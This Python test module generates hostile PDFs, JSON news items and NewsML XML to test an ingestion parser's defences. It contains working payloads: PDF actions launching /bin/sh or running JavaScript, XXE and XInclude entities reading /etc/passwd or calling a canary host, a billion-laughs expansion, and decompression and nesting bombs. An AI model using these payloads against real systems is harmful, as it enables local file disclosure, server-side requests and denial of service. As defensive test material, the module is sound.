"""PDFs and items of wires that are made to hang, burst, reach out or mislead."""

from __future__ import annotations

import json
import zlib
from collections.abc import Iterator
from functools import partial
from typing import Any, Final

from tests.hostile.cases import TAKEN_IN, Case, File, Made, prose, zeros

_NAR: Final = "http://iptc.org/std/nar/2006-10-01/"


def cases(canary: str) -> Iterator[Case]:
    """``canary`` is the origin of what must not be asked."""
    yield from _papers(canary)
    yield from _ninjs(canary)
    yield from _newsml(canary)


def _pdf(*objects: bytes, trailer: bytes = b"/Root 1 0 R") -> bytes:
    """A PDF of these objects, numbered from 1, with a right table of where they are."""
    out = bytearray(b"%PDF-1.7\n")
    places = []
    for number, one in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, one)
    table = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<< /Size %d %s >>\nstartxref\n%d\n%%%%EOF" % (len(objects) + 1, trailer, table)
    return bytes(out)


def _stream(packed: bytes) -> bytes:
    return b"<< /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream" % (len(packed), packed)


_PAGE: Final = (
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R /Resources << /Font << /F 5 0 R >> >> >>"
)
_FONT: Final = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def _lines(seed: str) -> bytes:
    words = prose(seed, 8).split(". ")
    shown = b"".join(b"1 0 0 1 50 %d Tm (%s.) Tj\n" % (760 - 20 * at, one.encode()) for at, one in enumerate(words))
    return b"BT /F 9 Tf " + shown + b" ET"


def _paper(seed: str, *, root: bytes = b"", page: bytes = _PAGE, contents: bytes = b"", trailer: bytes = b"") -> bytes:
    """A PDF of one page."""
    return _pdf(
        b"<< /Type /Catalog /Pages 2 0 R %s >>" % root,
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        page,
        _stream(contents or zlib.compress(_lines(seed))),
        _FONT,
        trailer=b"/Root 1 0 R " + trailer,
    )


def _papers(canary: str) -> Iterator[Case]:
    link = f"(http://{canary}/x)".encode()
    lock = b"/Encrypt << /Filter /Standard /V 1 /R 2 /P -4 /O <%s> /U <%s> >> /ID [<00> <00>]" % (
        b"1f" * 32,
        b"2e" * 32,
    )
    taken = {
        "with-script": _paper("script", root=b"/OpenAction << /S /JavaScript /JS (app.launchURL('http://x')) >>"),
        "that-launches": _paper("launch", root=b"/OpenAction << /S /Launch /F (/bin/sh) >>"),
        "that-opens-the-canary": _paper("uri", root=b"/OpenAction << /S /URI /URI %s >>" % link),
        "that-sends-a-form": _paper("form", root=b"/AA << /WC << /S /SubmitForm /F %s >> >>" % link),
        "with-outside-contents": _paper("file", page=_PAGE.replace(b"/Contents", b"/F (/etc/passwd) /Contents")),
        "with-a-huge-page": _paper("huge", page=_PAGE.replace(b"600 800", b"99999999 99999999")),
    }
    for name, body in taken.items():
        yield File(f"pdf-{name}", TAKEN_IN, partial(bytes, body), f"{name}.pdf", "application/pdf", holds="The ")
    others: dict[str, tuple[str, Made]] = {
        "that-is-locked": ("encrypted", lambda: _paper("locked", trailer=lock)),
        "of-a-head": ("not_readable", lambda: b"%PDF-1.7"),
        "cut-off": ("not_readable", lambda: _paper("cut off")[:150]),
        "of-noise": ("not_readable", lambda: b"%PDF-1.7\n" + bytes(range(256)) * 8_000),
        "of-pictures": ("no_text_layer", lambda: _paper("picture", contents=zlib.compress(b"0 0 100 100 re f"))),
        "without-an-end": ("not_readable", lambda: _paper("endless")[:-200]),
        "of-a-bomb": ("parser_memory", lambda: _paper("bomb", contents=zeros(300))),
        "of-deep-pages": ("not_readable", partial(_deep, 20_000)),
        "of-pages-in-a-circle": ("not_readable", lambda: _paper("circle", page=b"<< /Type /Pages /Kids [2 0 R] >>")),
        "of-deep-arrays": ("not_readable", lambda: _paper("arrays", page=b"[" * 100_000)),
        "of-deep-brackets": ("parser_memory", lambda: _paper("brackets", contents=zlib.compress(b"q " * 3_000_000))),
        "whose-table-is-in-a-circle": ("not_readable", _circular),
    }
    for name, (expect, made) in others.items():
        yield File(f"pdf-{name}", expect, made, f"{name}.pdf", "application/pdf")


def _deep(levels: int) -> bytes:
    """Pages within pages."""
    trees = [b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % (number + 3) for number in range(levels)]
    return _pdf(b"<< /Type /Catalog /Pages 2 0 R >>", *trees, b"<< /Type /Page /Parent %d 0 R >>" % (levels + 1))


def _circular() -> bytes:
    return b"%PDF-1.7\nxref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 1 /Prev 9 >>\nstartxref\n9\n%%EOF"


def _item(seed: str, **more: Any) -> dict[str, Any]:
    return {
        "uri": f"urn:wire:{seed}",
        "versioncreated": "2031-04-03T10:00:00Z",
        "headline": f"Story {seed}",
        "body_text": prose(f"ninjs {seed}"),
        **more,
    }


def _ninjs(canary: str) -> Iterator[Case]:
    of_type = {"body_text": None, "body_html": f"<p>{prose('typed')}</p><img src='http://{canary}/i.png'>"}
    items: dict[str, tuple[str, dict[str, Any]]] = {
        "wrong-types": (TAKEN_IN, {"headline": 5, "byline": [], "infosources": {"a": 1}, "versioncreated": {}}),
        "body-of-a-list": ("empty_text", {"body_text": ["a"]}),
        "bodies-of-numbers": (TAKEN_IN, {"bodies": [1, None, [], {"contenttype": 7, "value": {}}]}),
        "markup": (TAKEN_IN, of_type),
        "markup-too-deep": ("too_deep", {"body_text": None, "body_html": "<div>" * 50_000 + "word"}),
        "surrogates": (TAKEN_IN, {"headline": "\ud800 story \udfff"}),
        "overrides": (TAKEN_IN, {"headline": "\u202enepo", "byline": "\u2066" * 1_000}),
        "date-beyond": (TAKEN_IN, {"versioncreated": "9999-12-31T23:59:59-14:00", "firstcreated": "x" * 100_000}),
        "address-inside": (
            TAKEN_IN,
            {"uri": f"http://{canary}/x", "renditions": {"a": {"href": f"http://{canary}/r"}}},
        ),
        "long": ("too_large", {"body_text": "word " * 1_200_000}),
    }
    for name, (expect, more) in items.items():
        body = json.dumps(_item(name, **more)).encode()
        yield File(f"ninjs-{name}", expect, partial(bytes, body), f"{name}.json", "application/json")
    head = json.dumps(_item("deep"))[:-1].encode()
    odd = {
        "deep-arrays": head + b', "x": ' + b"[" * 100_000 + b"]" * 100_000 + b"}",
        "deep-objects": head + b', "x": ' + b'{"a":' * 100_000 + b"1" + b"}" * 100_000 + b"}",
        "cut-off": head,
        "long-number": head + b', "x": ' + b"9" * 100_000 + b"}",
    }
    codes = {
        "deep-arrays": "too_deep",
        "deep-objects": "too_deep",
        "cut-off": "not_readable",
        "long-number": "not_readable",
    }
    for name, body in odd.items():
        yield File(f"ninjs-{name}", codes[name], partial(bytes, body), f"{name}.json", "application/json")
    many = [_item(f"of many {number}", body_text=f"Short words {number}.") for number in range(20)]
    lists = {"same-names": [{**one, "uri": "same"} for one in many], "others": [many[0], 5, None, [], "x", {}, many[1]]}
    for name, items_of_it in lists.items():
        body, inside = json.dumps(items_of_it).encode(), {TAKEN_IN: 20 if name == "same-names" else 2}
        yield File(f"ninjs-of-{name}", TAKEN_IN, partial(bytes, body), f"{name}.json", "application/json", inside)


def _newsml(canary: str) -> Iterator[Case]:
    laughs = '<!ENTITY e0 "ha">' + "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
    doctypes = {
        "laughs": laughs,
        "of-a-file": '<!ENTITY e9 SYSTEM "file:///etc/passwd">',
        "of-the-canary": f'<!ENTITY e9 SYSTEM "http://{canary}/e9">',
        "of-a-parameter": f'<!ENTITY % p SYSTEM "http://{canary}/p"> %p;',
    }
    for name, entities in doctypes.items():
        body = _news(f"<p>{prose(name)}</p><p>&e9;</p>", before=f"<!DOCTYPE newsItem [{entities}]>")
        yield File(f"newsml-{name}", "not_text", partial(bytes, body), f"{name}.xml", "application/xml")
    include = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="/etc/passwd"/>'
    odd = {
        "includes": (TAKEN_IN, _news(f"<p>{prose('xi')}</p>{include}")),
        "references": ("not_readable", _news(f"<p>{prose('references')}</p><p>&#0;&#xD800;&nosuch;</p>")),
    }
    for name, (expect, body) in odd.items():
        yield File(f"newsml-odd-{name}", expect, partial(bytes, body), f"{name}.xml", "application/xml")
    deep = "<div>" * 100_000
    yield File("newsml-too-deep", "too_deep", lambda: _news(deep), "deep.xml", "application/xml")
    yield File("newsml-without-words", "empty_text", lambda: _news("<p></p>"), "empty.xml", "application/xml")


def _news(words: str, *, before: str = "") -> bytes:
    return (
        f'<?xml version="1.0"?>{before}<newsItem xmlns="{_NAR}" guid="urn:x" version="1"><itemMeta><itemClass '
        f'qcode="ninat:text"/></itemMeta><contentMeta><headline>Story</headline></contentMeta><contentSet><inlineXML '
        f'contenttype="application/xhtml+xml"><html xmlns="http://www.w3.org/1999/xhtml"><body>{words}</body></html>'
        f"</inlineXML></contentSet></newsItem>"
    ).encode()
